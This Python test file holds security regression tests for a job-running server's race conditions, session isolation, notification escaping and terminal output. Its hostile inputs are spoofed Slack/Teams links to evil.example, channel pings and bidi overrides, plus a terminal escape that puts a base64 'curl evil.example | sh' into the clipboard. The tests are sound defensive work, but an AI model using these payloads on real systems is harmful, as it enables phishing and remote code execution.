"""The sixth red team on jobs and their limits (issue 34's "fresh red team", also attacking the walls beyond the
sandbox): attacks a hostile caller with a low-privilege key tried against a real `toolrun serve`. Each test failed on
the code before its fix.
"""

from __future__ import annotations

import asyncio
import sys
from collections import Counter
from pathlib import Path

import httpx
import pytest

from support.keys import create_key
from support.servers import ToolrunServer, serve_catalog, toolrun_cli

CATALOG = """\
group: ops
tools:
  - name: ask
    exec: echo asked
    approval: required
    approvers: [admins]
  - name: slow
    exec: sleep 30
    async: true
"""


async def _at_once(url: str, key: str, count: int) -> Counter[int]:
    """`count` POSTs of the same call, all sent before any is answered: their status codes."""
    limits = httpx.Limits(max_connections=count, max_keepalive_connections=count)
    async with httpx.AsyncClient(timeout=30, limits=limits) as client:

        async def one() -> int:
            answer = await client.post(url, json={}, headers={"X-API-Key": key})
            return answer.status_code

        return Counter(await asyncio.gather(*(one() for _ in range(count))))


def _live(url: str, key: str) -> list[str]:
    """The caller's jobs awaiting approval or running, as GET /jobs lists them."""
    with httpx.Client(timeout=10) as client:
        listed = client.get(f"{url}/jobs", params={"limit": 100}, headers={"X-API-Key": key})
    assert listed.status_code == 200, listed.text
    jobs = listed.json()
    jobs = jobs["jobs"] if isinstance(jobs, dict) else jobs
    return [j["job"] for j in jobs if j["status"] in ("awaiting_approval", "running")]


@pytest.mark.parametrize("workers", [1, 2])
@pytest.mark.parametrize("tool", ["ask", "slow"])
def test_requests_sent_at_once_hold_no_more_live_jobs_than_the_callers_cap(
    tmp_path: Path, workers: int, tool: str
) -> None:
    """`job_max_live_per_caller` (and, for async calls, half the concurrency pool) was checked by counting the
    caller's live jobs, then creating the new one: requests sent at once all counted before any was created. With
    a cap of 3, 30 concurrent requests of one key made 30 jobs awaiting approval (one worker; 6 with two), and 30
    async runs where half of `max_concurrent_calls` (4) allows 2. The new job is now counted again once it exists,
    and taken back when it is one too many."""
    settings = {"SVC_JOB_MAX_LIVE_PER_CALLER": 3, "SVC_MAX_CONCURRENT_CALLS": 4}
    server = serve_catalog(tmp_path, CATALOG, settings, args=("--workers", str(workers)))
    with server.start():
        key = create_key(server.env, "mallory", "ops")
        answers = asyncio.run(_at_once(f"{server.url}/tools/ops.{tool}", key, 30))
        live = _live(server.url, key)
        with httpx.Client(timeout=30) as client:  # a refused request left nothing behind that counts
            again = client.post(f"{server.url}/tools/ops.{tool}", json={}, headers={"X-API-Key": key})
    cap = 3 if tool == "ask" else 2
    assert answers[202] <= cap and len(live) <= cap, (answers, live)
    assert set(answers) <= {202, 429}, answers
    assert again.status_code == (202 if len(live) < cap else 429), again.text


def _remember(url: str, key: str, value: str) -> str:
    """`pub.remember` over MCP (HTTP) in the session named `work`: the value the session held, then stores `value`."""
    body = {
        "jsonrpc": "2.0",
        "id": 1,
        "method": "tools/call",
        "params": {
            "name": "execute",
            "arguments": {"key": "pub.remember", "arguments": {"value": value}, "session": "work"},
        },
    }
    headers = {"accept": "application/json, text/event-stream", "mcp-protocol-version": "2025-06-18", "x-api-key": key}
    answer = httpx.post(f"{url}/mcp", json=body, headers=headers, timeout=30)
    assert answer.status_code == 200, answer.text
    return str(answer.json()["result"]["content"][0]["text"])


def test_a_deleted_user_recreated_with_the_same_name_does_not_inherit_its_session_values(tmp_path: Path) -> None:
    """A user deleted and created again under the same name is another person: jobs already knew it (the requester
    rule compares when the user was made), but fn tools' session values were kept under the name alone for a day:
    the new `sam`, calling with the session name the old one used (`work`), read what the old `sam` had stored
    there. Session values are now kept per person and the user's creation time."""
    from support.mcp import CATALOG

    server = ToolrunServer(tmp_path / "srv", CATALOG)
    with server.start():
        old = create_key(server.env, "sam")
        assert _remember(server.url, old, "the old sam's secret") == "unset|True"
        assert _remember(server.url, old, "kept") == "the old sam's secret|True"  # one person's session holds
        deleted = toolrun_cli("users", "delete", "sam", env=server.env)
        assert deleted.returncode == 0, deleted.stderr
        new = create_key(server.env, "sam")
        seen = _remember(server.url, new, "the new sam's")
    assert seen == "unset|True", f"the new sam read the old one's session value: {seen}"


def test_a_requesters_arguments_cannot_write_links_mentions_or_lines_into_the_approvers_channel(
    tmp_path: Path,
) -> None:
    """The approval notification's `text` is what Slack and Teams show the approvers, as their markup: a requester's
    argument went into it as it was, so `<!channel>` pinged the whole channel, `<https://evil.example/|Open the
    request>` showed as a link named like the real one (to a page of the requester's), `[Approve](https://...)` the
    same in Teams, a newline started a line of the requester's own ("bob approved ..."), and a bidi override turned
    the rest of the line around. The text now carries the caller's words as text: `&`, `<` and `>` escaped as Slack
    asks, a markdown link broken, control and format characters written as escapes."""
    from test_notify import Receiver

    catalog = (
        "group: ops\ntools:\n  - name: restart\n    exec: echo restarted {{ name | quote }}\n"
        "    params:\n      - {name: name, type: str}\n    approval: required\n    approvers: [oncall]\n"
    )
    hostile = "db <!channel> <https://evil.example/x|Open the request> [Approve](https://evil.example/y)\nbob approved"
    hostile += " \u202edevorppa"  # a bidi override: the rest of the line shown right to left
    with Receiver() as hook:
        server = serve_catalog(tmp_path, catalog, {"SVC_NOTIFY_URL": hook.url + "/hook"})
        with server.start():
            key = create_key(server.env, "mallory", "ops")
            asked = httpx.post(
                f"{server.url}/tools/ops.restart", json={"name": hostile}, headers={"X-API-Key": key}, timeout=30
            )
            assert asked.status_code == 202, asked.text
            text = hook.wait_for(1)[0]["text"]
    assert "<!channel>" not in text and "<https://" not in text and "](https://" not in text, text
    assert "\n" not in text and "\\nbob approved" in text, text
    assert "\u202e" not in text and "\\u202edevorppa" in text, text
    assert "&lt;!channel&gt;" in text and "&lt;https://evil.example/x|Open the request&gt;" in text, text


def _on_a_terminal(argv: list[str], env: dict[str, str], timeout: float = 60) -> bytes:
    """What `argv` writes to a terminal (a pseudo-terminal as its stdout and stderr), until it exits."""
    import os
    import pty
    import select
    import subprocess
    import time

    main, side = pty.openpty()
    proc = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=side, stderr=side, env=env)
    os.close(side)
    out = b""
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([main], [], [], 1.0)
            if not ready:
                if proc.poll() is not None:
                    break
                continue
            try:
                chunk = os.read(main, 4096)
            except OSError:  # EIO: the child closed the terminal
                break
            if not chunk:
                break
            out += chunk
    finally:
        os.close(main)
        if proc.poll() is None:
            proc.kill()
        proc.wait(10)
    return out


def test_a_requesters_argument_echoed_by_its_tool_cannot_drive_the_terminal_of_whoever_tails_the_job(
    tmp_path: Path,
) -> None:
    """`toolrun jobs show` writes a requester's arguments with their control characters shown, never sent; but
    `toolrun jobs tail` (an approver, an admin following another person's job) wrote the job's output to the
    terminal as it was, and a tool that echoes an argument put the requester's escape sequences there: OSC 52 (set
    the clipboard, on terminals that allow it), erase the line and rewrite it. To a terminal, tail now writes the
    output with control characters shown (to a pipe, exactly as printed)."""
    catalog = (
        "group: ops\ntools:\n  - name: note\n    exec: printf '%s\\n' {{ msg | quote }}\n"
        "    params:\n      - {name: msg, type: str}\n    approval: required\n    approvers: [oncall]\n"
    )
    hostile = "evil\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2K\rall good"
    server = serve_catalog(tmp_path, catalog)
    with server.start():
        mallory = create_key(server.env, "mallory", "ops")
        oncall = create_key(server.env, "olive", "oncall")
        with httpx.Client(base_url=server.url, timeout=30) as client:
            asked = client.post("/tools/ops.note", json={"msg": hostile}, headers={"X-API-Key": mallory})
            assert asked.status_code == 202, asked.text
            job = asked.json()["job"]
            approved = client.post(f"/jobs/{job}/approve", json={}, headers={"X-API-Key": oncall})
            assert approved.status_code == 200, approved.text
        argv = [sys.executable, "-m", "toolrun", "--url", server.url, "--api-key", oncall, "jobs", "tail", job]
        seen = _on_a_terminal(argv, dict(server.env))
        piped = toolrun_cli("--url", server.url, "--api-key", oncall, "jobs", "tail", job, env=server.env)
    assert b"all good" in seen, seen
    assert b"\x1b" not in seen and b"\x07" not in seen, seen
    assert b"\\x1b]52" in seen, seen  # shown, as an escape
    assert "\x1b]52;c;" in piped.stdout, repr(piped.stdout)  # a pipe gets the output exactly as printed
